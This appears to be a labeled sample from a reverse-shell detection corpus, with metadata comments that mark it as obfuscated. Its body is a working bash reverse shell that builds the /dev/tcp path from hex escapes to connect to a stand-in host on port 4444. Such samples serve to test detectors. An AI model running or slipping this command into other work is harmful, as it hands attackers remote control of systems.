# description: Builds the /dev/tcp path from hex escapes and variables before redirecting bash into it.
# family: reverse-shell
# obfuscated: yes
h=203.0.113.10
p=4444
t=$'\x2f\x64\x65\x76\x2f\x74\x63\x70'
bash -i >& "$t/$h/$p" 0>&1
